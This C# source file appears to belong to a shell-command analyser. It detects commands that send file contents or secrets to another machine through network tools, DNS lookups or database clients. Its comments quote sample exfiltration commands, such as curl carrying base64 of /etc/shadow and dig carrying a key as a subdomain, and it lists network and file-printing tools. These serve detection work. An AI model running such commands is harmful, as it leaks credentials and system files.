using System.Collections.Frozen;
using System.Text;
using System.Text.RegularExpressions;
using Firstlook.Effects.Shell;

namespace Firstlook.Effects;

/// <summary>
/// What files hold leaves the machine in an address: <c>curl "https://host/?x=$(base64 /etc/shadow)"</c>, <c>dig $(cat key).host</c>. The request is a
/// read wherever it arrives; what it carries is not. Values of headers are left to the tags: a token is read from a file there every day.
/// </summary>
internal static partial class SentAway
{
    /// <summary>Programs that hand their operands to another machine.</summary>
    static readonly FrozenSet<string> Senders = FrozenSet.Create(StringComparer.Ordinal,
        "curl", "wget", "http", "https", "xh", "dig", "drill", "host", "nslookup", "kdig", "ping", "ping6", "whois", "traceroute", "tracepath", "mtr", "getent", "resolvectl",
            "nc", "ncat", "logger");

    /// <summary>Programs that ask another machine, and carry something there where an address is put together of it.</summary>
    static readonly FrozenSet<string> Askers = FrozenSet.Create(StringComparer.Ordinal,
        "systemd-resolve", "git", "redis-cli", "psql", "mysql", "mariadb", "mongosh", "mongo", "openssl", "kubectl", "oc", "helm", "aws",
            "gsutil", "gcloud", "az", "ssh", "scp", "sftp", "telnet", "docker", "podman", "skopeo", "crane", "ftp", "smbclient", "ldapsearch", "snmpget", "snmpwalk",
            "ntpdate", "rsync", "influx", "mosquitto_sub", "nmap", "svn", "hg", "pg_isready", "grpcurl", "websocat", "rclone", "mc", "s3cmd");

    /// <summary>Clients of databases and services, which print what those hold.</summary>
    static readonly FrozenSet<string> Clients =
        FrozenSet.Create(StringComparer.Ordinal, "psql", "mysql", "mariadb", "mongosh", "mongo", "redis-cli", "clickhouse-client", "cqlsh", "sqlcmd", "sqlplus", "bq",
            "ldapsearch", "vault", "etcdctl", "git", "pg_dump", "pg_dumpall", "mysqldump", "mongodump", "influx", "logcli", "journalctl");

    /// <summary>Programs that print what files or the environment hold.</summary>
    static readonly FrozenSet<string> Printers = FrozenSet.Create(StringComparer.Ordinal,
        "cat", "tac", "head", "tail", "base64", "base32", "basenc", "xxd", "od", "hexdump", "strings", "rev", "sort", "cut", "grep", "sed", "awk", "dd", "tar", "zip",
            "gzip", "bzip2", "xz", "zcat",
        "gpg", "openssl", "printenv", "set", "history", "sqlite3", "getent", "jq", "yq", "less", "more", "bat", "hd", "sdiff", "bzgrep", "ag", "lzcat", "lz4cat",
            "column", "uniq", "paste", "join", "comm", "diff", "fold", "fmt", "pr", "nl", "expand", "iconv", "zgrep", "egrep", "fgrep", "rg", "bzcat", "xzcat", "zstdcat",
            "look", "xmllint", "unzip");

    static readonly FrozenSet<string> Headers =
        FrozenSet.Create(StringComparer.Ordinal, "-H", "--header", "-u", "--user", "-b", "--cookie", "-A", "--user-agent", "--cacert", "--cert", "--key");

    /// <returns>Why the command is no read; null where no word of it carries a file's content.</returns>
    public static string? Problem(SimpleCommand command, Scope scope)
    {
        if (Word.AreWritten(command.Words)) return FromFile(command);
        if (SameServer.Receives(command, scope)) return null;
        for (var at = GoesToHost(command) ? 1 : command.Words.Count; at < command.Words.Count; at++)
        {
            if (Carried(command.Words[at].Parts, scope) is { } told
                && !(command.Words[0].Constant is "ssh" && (IsHost(command.Words, at) || Credentials().IsMatch(Text(command.Words[at].Parts)))))
                return $"what '{told}' holds is sent to another machine";
        }

        if (Carriers.HandedOn(command, scope) is { } handed) return $"what '{handed}' holds may be sent to another machine";
        if (FromFile(command) is { } lines) return lines;
        var (sends, asks) = (false, false);
        for (var at = 0; at < command.Words.Count; at++)
        {
            if (!sends)
            {
                if (asks && PutTogether(command.Words[at].Parts) && Carried(command.Words[at].Parts, scope) is { } address) return $"what '{address}' holds is part of an address";
                sends = command.Words[at].Constant is { } name && IsSender(name);
                asks |= command.Words[at].Constant is { } asker && IsAsker(asker);
                // ssh host "curl https://h/?x=$(cat key)": what another shell reads is put together here.
                if (at > 0 && command.Words[0].Constant is not ("echo" or "printf") && CarriedInText(command.Words[at].Parts, scope, new StringBuilder()) is { } put)
                    return $"what '{put}' holds is sent to another machine";
                continue;
            }
            if (command.Words[at - 1].Constant is { } before && Headers.Contains(before) && Proves(before, command.Words[at])) continue;
            if (Carried(command.Words[at].Parts, scope) is { } carried) return $"what '{carried}' holds is sent to another machine";
        }
        return null;
    }

    // dig(1), "-f": each line of the file is asked of the server that is named.
    static string? FromFile(SimpleCommand command) =>
        command.Words is [{ Constant: "dig" or "kdig" or "mdig" or "drill" }, ..] && command.Words.Any(word => word.Constant is ['-', 'f', ..])
            && command.Words.Any(word => word.Constant is ['@', ..])
            ? "the lines of a file are asked of another machine" : null;

    /// <summary>A client of a server that is named with a dot: whatever its words carry goes there. To ssh every name is another machine.</summary>
    static bool GoesToHost(SimpleCommand command) =>
        command.Words[0].Constant is "ssh" || command.Words is [{ Constant: "git" }, { Constant: "ls-remote" or "fetch" or "clone" or "push" }, ..]
            || command.Words[0].Constant is "redis-cli" or "psql" or "mysql" or "mariadb" or "mongosh" or "ldapsearch" or "snmpget" or "snmpwalk"
                && command.Words.Skip(1).Any(word => ForeignHost().IsMatch(Text(word.Parts)));

    /// <summary>The name of the machine itself: what stands alone, before anything but options and their values.</summary>
    static bool IsHost(EquatableArray<Word> words, int at)
    {
        if (words[at - 1].Constant is "-l" || Text(words[at].Parts) is not [Argument.Hole]) return false;
        for (var before = 1; before < at; before++)
        {
            if (words[before].Constant is not ['-', ..] && words[before - 1].Constant is not ['-', _]) return false;
        }

        return true;
    }

    // curl -H "Authorization: Bearer $(cat token)" of the machine there
    [GeneratedRegex(@"-H\s|--header|Authorization:|Bearer", RegexOptions.ExplicitCapture)]
    private static partial Regex Credentials();

    [GeneratedRegex(@"^(\w+://|[\w-]+@)?(?!127\.)[\w-]+(\.[\w-]+)+(:|/|$)", RegexOptions.ExplicitCapture)]
    private static partial Regex ForeignHost();

    /// <summary>A word that has more in it than what is printed, and looks like an address: no blank, but a dot, a protocol or a user's sign.</summary>
    static bool PutTogether(EquatableArray<WordPart> parts)
    {
        var literal = Text(parts);
        return literal.AsSpan().IndexOfAny(' ', '\n') < 0 && (literal.Contains("://", StringComparison.Ordinal) || literal.Contains('@') || Domain().IsMatch(literal));
    }

    public static string Text(EquatableArray<WordPart> parts)
    {
        var text = new StringBuilder();
        foreach (var part in parts)
            text.Append(part switch { Literal literal => literal.Text, SingleQuoted single => single.Text, DoubleQuoted quoted => Text(quoted.Parts),
                _ => Argument.Hole.ToString() });
        return text.ToString();
    }

    [GeneratedRegex("\uFFFC[\\w-]*\\.[a-zA-Z]", RegexOptions.ExplicitCapture)]
    private static partial Regex Domain();

    // What proves who asks is read from a file every day; whatever else stands in a header may be any file.
    static bool Proves(string option, Word value) =>
        option is "-u" or "--user" or "--cacert" or "--cert" or "--key" || option is "-H" or "--header" && Credential().IsMatch(Leading(value.Parts));

    static string Leading(EquatableArray<WordPart> parts) =>
        parts.Count == 0 ? "" : parts[0] switch { Literal literal => literal.Text, SingleQuoted single => single.Text, DoubleQuoted quoted => Leading(quoted.Parts), _ => "" };

    [GeneratedRegex(@"^\s*(Proxy-)?Authorization:|^[\w-]*(token|key|secret|auth|password|session)[\w-]*:", RegexOptions.IgnoreCase | RegexOptions.ExplicitCapture)]
    private static partial Regex Credential();

    /// <returns>The variable of a secret's name that stands in an address, or is printed; null where none does. Values of headers are what such a variable is for.</returns>
    public static string? SecretIn(SimpleCommand command, Scope scope)
    {
        var prints = command.Words[0].Constant is { } printer && Repeating.Contains(printer);
        // What is fed to a program that prints it.
        if ((prints || IsPrinter(command.Words[0].Constant)) && !command.Words.Any(word => word.Constant is "-q" or "-c"))
        {
            foreach (var redirection in command.Redirections)
            {
                if (redirection.Operator is RedirectionOperator.HereString or RedirectionOperator.HereDocument
                    && SecretIn((redirection.Document ?? redirection.Target).Parts, scope) is { } fed) return fed;
            }
        }

        // What is written out expands to nothing else.
        if (Word.AreWritten(command.Words)) return null;
        foreach (var word in command.Words)
        {
            if (Told(word.Parts, scope) is { } told) return told;
        }

        var sends = command.Words[0].Constant is { } name && IsSender(name);
        for (var at = 1; at < command.Words.Count && (prints || sends); at++)
        {
            if (sends && command.Words[at - 1].Constant is { } before && Headers.Contains(before)) continue;
            if (SecretIn(command.Words[at].Parts, scope) is { } secret) return secret;
        }

        return null;
    }

    /// <summary>Programs that print the words that they are given, as they stand or in what they compute.</summary>
    static readonly FrozenSet<string> Repeating =
        FrozenSet.Create(StringComparer.Ordinal, "echo", "printf", "basename", "dirname", "expr", "seq", "numfmt", "awk", "gawk", "mawk", "nawk", "realpath");

    public static bool HoldSecret(EquatableArray<WordPart> parts, Scope scope) => SecretIn(parts, scope) is not null;

    static string? SecretIn(EquatableArray<WordPart> parts, Scope scope)
    {
        foreach (var part in parts)
        {
            // ${#TOKEN} is a number, ${TOKEN:+set} a word of the script's own.
            if (part is Variable variable && !variable.Operation.StartsWith('#') && !variable.Operation.StartsWith(":+", StringComparison.Ordinal)
                && !variable.Operation.StartsWith('+'))
            {
                if (SecretVariables.Are(variable.Name) || scope.Secrets.Contains(variable.Name)) return "$" + variable.Name;
                if (SecretIn(variable.Inner, scope) is { } inner) return inner;
            }

            if (part is DoubleQuoted quoted && SecretIn(quoted.Parts, scope) is { } inside) return inside;
        }

        return null;
    }

    /// <summary>bash(1), "${parameter:?word}": the word is printed where the parameter is not set.</summary>
    static string? Told(EquatableArray<WordPart> parts, Scope scope)
    {
        foreach (var part in parts)
        {
            if (part is Variable { Operation: [':', '?', ..] or ['?', ..] } variable && SecretIn(variable.Inner, scope) is { } secret) return secret;
            if (part is DoubleQuoted quoted && Told(quoted.Parts, scope) is { } inside) return inside;
        }

        return null;
    }

    /// <summary>Whether a value that is assigned holds what a file holds, so that the variable carries it on.</summary>
    public static bool Carries(Word value, Scope scope) => Carried(value.Parts, scope) is not null;

    public static bool IsAsker(string word) => Askers.Contains(word[(word.LastIndexOf('/') + 1)..]);

    public static bool IsSender(string word) => Senders.Contains(word[(word.LastIndexOf('/') + 1)..]);

    /// <param name="before">What of the text stands before these parts.</param>
    static string? CarriedInText(EquatableArray<WordPart> parts, Scope scope, StringBuilder before)
    {
        foreach (var part in parts)
        {
            if (part is Literal literal) before.Append(literal.Text);
            else if (part is SingleQuoted single) before.Append(single.Text);
            else if (part is DoubleQuoted quoted && CarriedInText(quoted.Parts, scope, before) is { } inside) return inside;
            else if (part is not DoubleQuoted && Carried(part, scope) is { } carried && Sends(before.ToString())) return carried;
        }
        return null;
    }

    /// <summary>Whether a text that goes on hands what follows to another machine, in anything but a header.</summary>
    static bool Sends(string text)
    {
        var words = text.Split([' ', '\t', '\n', ';', '|', '&', '(', '`', '"', '\''], StringSplitOptions.RemoveEmptyEntries);
        var sender = Array.FindLastIndex(words, IsSender);
        if (sender < 0) return false;
        var option = Array.FindLastIndex(words, word => word[0] == '-');
        return option < sender || !Headers.Contains(words[option]) || words[option..].Any(word => word.Contains("://", StringComparison.Ordinal));
    }

    public static string? Carried(EquatableArray<WordPart> parts, Scope scope)
    {
        foreach (var part in parts)
        {
            if (Carried(part, scope) is { } carried) return carried;
        }
        return null;
    }

    static string? Carried(WordPart part, Scope scope) => part switch
    {
        CommandSubstitution substitution => Printed(substitution.Body, scope),
        DoubleQuoted quoted => Carried(quoted.Parts, scope),
        Variable variable => Contents.Carry(variable.Name, scope) ? "$" + variable.Name : Carried(variable.Inner, scope),
        Arithmetic arithmetic => Carried(arithmetic.Inner, scope) ?? (scope.Carried.Count > 0 ? ArithmeticNames.In(arithmetic.Text).FirstOrDefault(scope.Carried.Contains) : null),
        _ => null,
    };

    static string? Printed(ShellList body, Scope scope)
    {
        foreach (var pipeline in body.Items.SelectMany(item => item.Command.Pipelines))
        {
            if (Printed(pipeline.Commands, scope) is { } printed) return printed;
        }
        return null;
    }

    /// <summary>What in these commands of a pipeline prints what a file holds; null where nothing does.</summary>
    public static string? Printed(IEnumerable<ShellCommand> commands, Scope scope)
    {
        var first = true;
        foreach (var command in commands)
        {
            if (Printed(command, first, scope) is { } printed) return printed;
            first = false;
        }
        return null;
    }

    /// <summary>What within a function's body prints what a file holds; null where nothing does.</summary>
    public static string? PrintedWithin(ShellCommand body, Scope scope)
    {
        string? printed = null;
        ShellTree.Visit(body, command => printed ??= command is SimpleCommand { Words.IsEmpty: false } simple ? Begins(simple, scope) : null);
        return printed;
    }

    /// <summary>What one command of a pipeline prints of what a file holds, where nothing before it does; null where it prints none.</summary>
    public static string? Printed(ShellCommand command, bool first, Scope scope) =>
        command is not SimpleCommand simple ? "$(…)" : first ? Begins(simple, scope) : GoesOn(simple);

    static string? Begins(SimpleCommand command, Scope scope)
    {
        if (command.Words.IsEmpty && command.Redirections.Any(redirection => redirection.Operator == RedirectionOperator.Input)) return "$(<…)";
        if (command.Words is [{ Constant: { } called }, ..] && scope.Functions.TryGetValue(called, out var function)) return function.Prints;
        // Wherever its name stands: behind a wrapper's options, in a container, as what find starts.
        if (command.Words.Select(word => word.Constant).FirstOrDefault(IsPrinter) is { } printer) return printer;
        if (Client(command) is { } client) return client;
        if (command.Words is [{ Constant: "env" }]) return "env";
        foreach (var word in command.Words)
        {
            if (Carried(word.Parts, scope) is { } carried) return carried;
        }
        return Carriers.Print(command) ? Carriers.Program(command) ?? "…" : null;
    }

    /// <summary>What prints what a database, a bucket or a cluster's settings hold.</summary>
    static string? Client(SimpleCommand command)
    {
        if (command.Words.Select(word => word.Constant).FirstOrDefault(name => name is not null && Clients.Contains(name[(name.LastIndexOf('/') + 1)..])) is { } client)
            return client;
        // Objects that hold settings and secrets, tables, and objects of a bucket.
        if (command.Words is [{ Constant: "kubectl" or "oc" }, ..]
            && command.Words.Any(word =>
                word.Constant is "cm" or "configmap" or "configmaps" or "secret" or "secrets" or "yaml" or "-oyaml" or "-ojson" or "exec" or "logs"
                    || word.Constant is { } named
                        && (named.StartsWith("cm/", StringComparison.Ordinal) || named.StartsWith("secret", StringComparison.Ordinal)
                            || named.StartsWith("configmap", StringComparison.Ordinal)))
            || Carriers.ShowSettings(command)
            || command.Words is [{ Constant: "docker" or "podman" or "nerdctl" or "crictl" }, { Constant: "logs" or "exec" }, ..]
                || command.Words is [{ Constant: "docker" or "podman" or "nerdctl" or "crictl" }, { Constant: "inspect" or "inspectp" or "inspecti" }, ..]
                    && !command.Words.Any(word =>
                        word.Constant?.Contains("IPAddress", StringComparison.Ordinal) == true || word.Constant?.Contains("Port", StringComparison.Ordinal) == true)
            || command.Words is [{ Constant: "python3" or "python" or "perl" or "ruby" or "node" }, ..]
                && command.Words.Any(word =>
                    word.Constant?.Contains("open(", StringComparison.Ordinal) == true || word.Constant?.Contains("read", StringComparison.Ordinal) == true
                        || word.Constant?.Contains("environ", StringComparison.Ordinal) == true)
            || command.Words is [{ Constant: "aws" }, ..]
                && command.Words.Any(word => word.Constant is "dynamodb" or "secretsmanager" or "ssm" or "cp" or "get-object")) return command.Words[0].Constant;
        return null;
    }

    /// <summary>Further on they print what comes through the pipe, unless they are given a file, read none, or somebody starts them (<c>xargs cat</c>).</summary>
    static string? GoesOn(SimpleCommand command)
    {
        if (command.Redirections.Any(redirection => redirection.Operator == RedirectionOperator.Input)) return "<…";
        if (command.Words.IsEmpty) return null;
        if (Client(command) is { } client) return client;
        if (command.Words.Skip(1).Select(word => word.Constant).FirstOrDefault(IsPrinter) is { } started) return started;
        var name = command.Words[0].Constant;
        if (name is "env" && command.Words.Skip(1).All(word => word.Constant is ['-', ..]) || name is "printenv" or "set" or "history" or "getent") return name;
        if (Carriers.PrintMore(command)) return Carriers.Program(command);
        if (name is null || !IsPrinter(name)) return null;
        // A pattern or a program comes first; a number or a single character is the value of an option.
        var patterns = Patterned.Contains(name[(name.LastIndexOf('/') + 1)..]) ? 1 : 0;
        return command.Words.Skip(1)
            .Count(word =>
                word.Constant is not (['-', ..] or { Length: 1 })
                    && word.Constant?.All(character => char.IsAsciiDigit(character) || character is ',' or '-') != true) > patterns
            ? name : null;
    }

    static readonly FrozenSet<string> Patterned = FrozenSet.Create(StringComparer.Ordinal, "grep", "egrep", "fgrep", "zgrep", "rg", "sed", "awk", "jq", "yq");

    public static bool IsPrinter(string? word) => word is not null && Printers.Contains(word[(word.LastIndexOf('/') + 1)..]);
}
